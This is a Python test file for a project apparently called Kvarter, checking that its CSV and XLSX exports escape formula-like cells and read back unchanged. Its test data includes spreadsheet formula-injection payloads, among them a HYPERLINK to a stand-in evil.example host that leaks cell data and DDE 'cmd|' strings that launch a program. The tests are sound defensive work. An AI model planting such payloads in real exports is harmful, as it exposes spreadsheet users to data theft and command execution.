"""Formula injection (issue 12 item 4): every CSV/XLSX Kvarter writes is inert in a spreadsheet.

The writers are tested on hostile texts straight from the probe: ``=HYPERLINK(…)``, ``@SUM(…)``,
``+cmd|…``, a leading ``-``, tab and carriage return. A plain number stays a number.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from types import SimpleNamespace

import openpyxl
import pytest

from kvarter.core.spreadsheet import csv_cell, csv_uncell, looks_like_formula
from kvarter.plans.parsing import (
    MeasureRow,
    parse_plan_file,
    write_plan_csv,
    write_plan_xlsx,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"klicka")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-10 % buller",
]
INERT = ["Klotter vid torget", "", "-3", "-0,5", "+12.25", "10 % buller", "a=b"]


def _csv_cells(data: bytes, delimiter: str = ";") -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _inert(cell: str) -> bool:
    return not looks_like_formula(cell)


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell__formula_like_text__gets_a_quote_and_reads_back_unchanged(text: str) -> None:
    written = csv_cell(text)
    assert written == "'" + text
    assert csv_uncell(written) == text


@pytest.mark.parametrize("text", INERT)
def test_csv_cell__plain_text_and_numbers__unchanged(text: str) -> None:
    assert not looks_like_formula(text)
    assert csv_cell(text) == text
    assert csv_uncell(text) == text


@pytest.mark.parametrize("text", ["'=1+1", "''-10 % buller", "'plain", "'"])
def test_csv_cell__texts_that_start_with_quotes__round_trip_exactly(text: str) -> None:
    assert csv_uncell(csv_cell(text)) == text


def _measure(title: str, description: str = "", comment: str = "") -> MeasureRow:
    return MeasureRow(
        row=2,
        number="1.1",
        goal_area_number=1,
        goal_area="Trygghet",
        title=title,
        description=description,
        area_names=(),
        responsible="",
        responsible_units=(),
        financing="",
        status=None,
        comment=comment,
        disposition=None,
        disposition_year=None,
    )


def test_write_plan_csv__hostile_cells__neutralised_and_the_import_gets_the_text_back() -> None:
    rows = [_measure("-10 % buller", HOSTILE[0], "@SUM(A1:A9)")]
    data = write_plan_csv(rows)

    body = _csv_cells(data)[1]
    assert body[2] == "'-10 % buller"
    assert body[3] == "'" + HOSTILE[0]
    assert all(_inert(cell) for cell in body)

    again = parse_plan_file(data, "plan.csv").rows[0]
    assert again.title == "-10 % buller"
    assert again.description == HOSTILE[0]


def test_write_plan_xlsx__formula_like_text__string_cells_never_formulas() -> None:
    rows = [_measure("-10 % buller", HOSTILE[0], "=1+1")]
    data = write_plan_xlsx(rows)

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    for cell in sheet[2]:
        if cell.value is not None:
            assert cell.data_type == "s", cell.coordinate
    assert sheet["C2"].value == "-10 % buller"
    assert sheet["D2"].value == HOSTILE[0]
    assert sheet["D2"].quotePrefix

    again = parse_plan_file(data, "plan.xlsx").rows[0]
    assert again.title == "-10 % buller"
    assert again.description == HOSTILE[0]
    assert again.comment == "=1+1"


def test_incidents_to_csv__hostile_report_text__neutralised() -> None:
    from kvarter.safety.history.exporting import incidents_to_csv

    named = SimpleNamespace
    event = named(
        pk=1,
        report=named(pk=1, source_id="", organisation=named(name="+Polisen")),
        occurred_at=dt.datetime(2026, 3, 2, 21, 0, tzinfo=dt.UTC),
        category=named(name="@Klotter"),
        area=named(name="=Berga"),
        place_id=None,
        latitude=58.4,
        longitude=-15.6,
        text=HOSTILE[0],
        severity=None,
    )
    cells = _csv_cells(incidents_to_csv([event]))[1]
    assert cells[2] == "'@Klotter"
    assert cells[3] == "'=Berga"
    assert cells[6] == "-15.6"  # a number stays a number
    assert cells[8] == "'" + HOSTILE[0]
    assert all(_inert(cell) for cell in cells)


def test_counts_csv__hostile_category_and_area_names__neutralised() -> None:
    from kvarter.safety.history.exports import counts_csv

    named = SimpleNamespace
    table = named(
        filter=named(start=dt.date(2026, 1, 1), end=dt.date(2026, 1, 31)),
        categories=[named(name="=HYPERLINK(1)"), named(name="-Skadegörelse")],
        rows=[named(area=named(name="@Berga"), cells=[4, "< 3"])],
    )
    rows = _csv_cells(counts_csv(table))
    assert rows[1][:3] == ["'@Berga", "'=HYPERLINK(1)", "4"]
    assert rows[2][:3] == ["'@Berga", "'-Skadegörelse", "< 3"]


def test_indicator_csv_renderer__hostile_cells__neutralised_numbers_kept() -> None:
    from kvarter.indicators.api import CSVRenderer

    data = CSVRenderer().render([["indikator", "värde"], ["=cmd|'/C calc'!A0", "-1.5"]])
    rows = _csv_cells(data, delimiter=",")
    assert rows[1] == ["'=cmd|'/C calc'!A0", "-1.5"]
